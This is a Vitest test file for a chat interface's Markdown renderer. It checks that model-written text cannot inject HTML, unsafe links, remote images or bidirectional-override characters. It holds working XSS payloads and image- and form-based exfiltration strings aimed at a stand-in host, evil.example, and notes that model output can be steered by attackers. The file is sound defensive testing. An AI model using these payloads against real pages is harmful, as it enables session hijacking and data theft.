import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "../../../web/src/chat/markdown.tsx";

/*
 * What a model says is whatever somebody made it say. Rendered with the component that the page uses: raw HTML
 * stays text, links lead to the web or mail alone, and nothing remote is loaded.
 */

const rendered = (text: string, streaming = false) =>
  renderToStaticMarkup(createElement(Markdown, { text, streaming }));

const loading = /<(?:img|script|iframe|object|embed|svg|math|link|style|form|input|video|audio|source|base|meta)\b/i;
const attributes = /<[a-z][^>]*\s(?:on[a-z]+|srcdoc|formaction|xlink:href|src|srcset)\s*=/i;

const html = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<form action=https://evil.example><input name=password></form>",
  "<base href=https://evil.example>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<details open ontoggle=alert(1)>",
  "text <b onmouseover=alert(1)>bold</b>",
];

describe("markdown that a model wrote", () => {
  it.each(html)("keeps raw HTML as text: %s", (text) => {
    for (const streaming of [false, true]) {
      expect(rendered(text, streaming)).not.toMatch(loading);
      expect(rendered(text, streaming)).not.toMatch(attributes);
    }
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "ftp://evil.example",
    "//evil.example",
    "/api/v2/users/logout",
  ])("makes no link to %s", (target) => {
    expect(rendered(`[click](${target})`)).not.toContain("href=");
    expect(rendered(`[click](<${target}>)`)).not.toContain("href=");
    expect(rendered(`![click](${target})`)).not.toContain("href=");
  });

  it.each(["https://example.com/", "http://example.com/", "mailto:ada@example.com"])(
    "links to %s, and tells it nothing",
    (target) => {
      const link = rendered(`[click](${target})`);
      expect(link).toContain(`href="${target}"`);
      expect(link).toContain('rel="noopener noreferrer nofollow"');
    },
  );

  it.each([
    "![pixel](https://evil.example/?secret=1)",
    "![pixel][1]\n\n[1]: https://evil.example/?secret=1",
    '![pixel](https://evil.example/ "title")',
    "[![pixel](https://evil.example/a)](https://evil.example/b)",
    "![pixel](data:image/png;base64,AAAA)",
  ])("loads no image: %s", (text) => {
    for (const streaming of [false, true]) expect(rendered(text, streaming)).not.toMatch(/<img|src=|url\(/);
  });

  it("reorders no text that a reader checks before running it", () => {
    expect(rendered("safe \u202egnp.exe\u202c and \u2066more\u2069")).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });
});
